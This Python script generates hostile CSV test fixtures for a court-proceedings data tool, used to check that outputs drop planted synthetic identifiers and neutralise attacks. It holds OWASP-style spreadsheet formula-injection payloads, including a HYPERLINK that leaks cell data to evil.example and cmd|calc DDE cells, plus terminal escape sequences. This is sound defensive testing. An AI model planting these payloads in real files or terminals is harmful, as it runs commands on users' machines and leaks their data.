"""Write the hostile-output battery in this folder (run once; the files are committed).

Each ``out_*.csv`` file is a small proceedings extract built to make an output leak or
misbehave: identifier columns under every spelling an extract uses, malformed rows that
carry names and NHS numbers, cells that a spreadsheet would run as formulas, and
terminal escape sequences. ``tests/io/test_hostile_outputs.py`` holds what reading and
writing each must give: no value of :data:`SECRETS` anywhere in any output, CSV cells
neutralised, the terminal shown printable text only. Run:
``python tests/data/bad/make_output_files.py``.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

HERE = Path(__file__).parent
HEADER = [
    "proceedings_id",
    "child_id",
    "mother_id",
    "la_code",
    "dfj_area",
    "child_dob",
    "child_sex",
    "issue_date",
    "disposal_date",
    "final_order",
]

SECRETS: dict[str, str] = {
    "name": "Zebedee Quarterfield",
    "forename": "Zebedee",
    "surname": "Quarterfield",
    "mother": "Morwenna Quarterfield",
    "nhs": "943 476 5919",
    "nhs_compact": "9434765919",
    "ni": "QQ123456C",
    "upn": "A123456789012",
    "email": "zeb.quarterfield@example.org",
    "phone": "07700 900123",
    "mobile": "07700900456",
    "street": "17 Larkspur Lane",
    "postcode": "ZZ99 9ZZ",
    "social_worker": "Oona Wexley",
    "initials": "ZXQ",
}
"""Identifying values planted in the battery: none may appear in any output."""

IDENTIFIER_FILES: dict[str, dict[str, str]] = {
    "out_name_of_child.csv": {"Name of child": SECRETS["name"]},
    "out_childs_name.csv": {"Child's name": SECRETS["name"], "Mother's name": SECRETS["mother"]},
    "out_national_insurance.csv": {
        "National Insurance Number": SECRETS["ni"],
        "NI number": SECRETS["ni"],
    },
    "out_upn.csv": {"UPN number": SECRETS["upn"], "Pupil UPN": SECRETS["upn"]},
    "out_contact.csv": {
        "E-mail": SECRETS["email"],
        "Tel": SECRETS["phone"],
        "Telephone number": SECRETS["phone"],
        "Mobile no": SECRETS["mobile"],
    },
    "out_initials_social_worker.csv": {
        "Initials": SECRETS["initials"],
        "Social worker": SECRETS["social_worker"],
    },
    "out_address.csv": {
        "Street": SECRETS["street"],
        "Address 1": SECRETS["street"],
        "Postcode": SECRETS["postcode"],
    },
    "out_nhs_variants.csv": {
        "NHS No.": SECRETS["nhs"],
        "N.H.S. number": SECRETS["nhs"],
        "NHSNumber": SECRETS["nhs_compact"],
    },
    "out_person_names.csv": {
        "Forename": SECRETS["forename"],
        "Surname": SECRETS["surname"],
        "Full name": SECRETS["name"],
    },
    "out_camel_case_headers.csv": {
        "ChildName": SECRETS["name"],
        "EmailAddress": SECRETS["email"],
        "HomePostCode": SECRETS["postcode"],
    },
}
"""File -> identifier columns (header as written -> value in every row)."""

COVARIATES = {
    "number of siblings": "2",
    "previous proceedings count": "1",
    "name of court": "Westshire Family Court",
    "LA name": "Westshire",
    "post_disposal_placement": "kinship",
}
"""Covariate headers that look a little like identifiers but are not: kept."""


def row(i: int, **changes: str) -> dict[str, str]:
    """A valid proceedings record; row 2 of every file has an unknown order (quarantined)."""
    base = {
        "proceedings_id": f"P{i}",
        "child_id": f"C{i}",
        "mother_id": f"M{i}",
        "la_code": "E08000001",
        "dfj_area": "Westshire",
        "child_dob": "2014-06-01",
        "child_sex": "F",
        "issue_date": "2018-03-01",
        "disposal_date": "2018-11-15",
        "final_order": "Wardship" if i == 2 else "care_order",
    }
    base.update(changes)
    return base


def text(header: list[str], rows: list[list[str]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return out.getvalue()


def with_columns(extra: dict[str, str], n: int = 5) -> str:
    header = HEADER + list(extra)
    rows = [[row(i)[h] for h in HEADER] + list(extra.values()) for i in range(1, n + 1)]
    return text(header, rows)


def write(name: str, content: str) -> None:
    (HERE / name).write_bytes(content.encode("utf-8"))


def main() -> None:
    for name, extra in IDENTIFIER_FILES.items():
        write(name, with_columns(extra))
    write("out_covariates_kept.csv", with_columns(COVARIATES))

    # Malformed rows (too many fields, too few) carrying identifying text: the whole
    # line is quarantined, and none of it may be kept.
    extra = {"Surname": SECRETS["surname"], "NHS number": SECRETS["nhs"]}
    lines = with_columns(extra).splitlines()
    lines[3] += f",{SECRETS['name']},{SECRETS['email']}"
    lines[4] = ",".join(lines[4].split(",")[:6]) + f",{SECRETS['mother']}"
    write("out_malformed_with_identifiers.csv", "\n".join(lines) + "\n")

    # Cells a spreadsheet would run (OWASP's examples), in kept and quarantined rows.
    payloads = [
        '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        " =1+1",
        "\uff1d1+1",
    ]
    rows = [row(i, la_code=p) for i, p in enumerate(payloads, start=1)]
    rows.append(row(9, final_order='=HYPERLINK("http://evil.example")'))
    rows.append(row(10, dfj_area="-Westshire", final_order="@unknown"))
    write("out_injection_cells.csv", text(HEADER, [[r[h] for h in HEADER] for r in rows]))

    # A formula as a covariate header, and a formula in a covariate.
    header = [*HEADER, "=cmd|' /C calc'!A0"]
    body = [[row(i)[h] for h in HEADER] + ["=1+1"] for i in range(1, 4)]
    write("out_injection_header.csv", text(header, body))

    # Terminal escapes: colour, clear screen, a C1 control sequence introducer, a
    # right-to-left override and a bell, in kept and quarantined rows.
    rows = [
        row(1, la_code="E08\x1b[31m000001\x1b[0m"),
        row(2, final_order="Ward\x1b[2J\x1b[Hship\x07"),
        row(3, dfj_area="West\u202eerihs"),
        row(4, la_code="E08\x9b31m000002"),
        row(5, final_order="\x1b]0;pwned\x07care_order"),
    ]
    write("out_ansi_escapes.csv", text(HEADER, [[r[h] for h in HEADER] for r in rows]))

    # An escape sequence in a header: echoed in the list of dropped columns and in the
    # error for a missing required column.
    header = [*HEADER, "\x1b[2JSurname"]
    body = [[row(i)[h] for h in HEADER] + [SECRETS["surname"]] for i in range(1, 4)]
    write("out_ansi_header.csv", text(header, body))
    header = [h if h != "issue_date" else "issue\x1b[8m_date" for h in HEADER]
    write("out_ansi_missing_column.csv", text(header, [list(row(1).values())]))

    # Everything at once: identifiers of every kind, a malformed row, injection, ANSI.
    extra = {
        "Name of child": SECRETS["name"],
        "NHS number": SECRETS["nhs"],
        "Social worker": SECRETS["social_worker"],
        "Postcode": SECRETS["postcode"],
    }
    lines = with_columns(extra, n=6).splitlines()
    lines[5] = lines[5].replace("E08000001", "=E08000001\x1b[5m") + ",surplus"
    lines[6] = lines[6].replace("care_order", "@care_order")
    write("out_everything.csv", "\n".join(lines) + "\n")


if __name__ == "__main__":
    main()
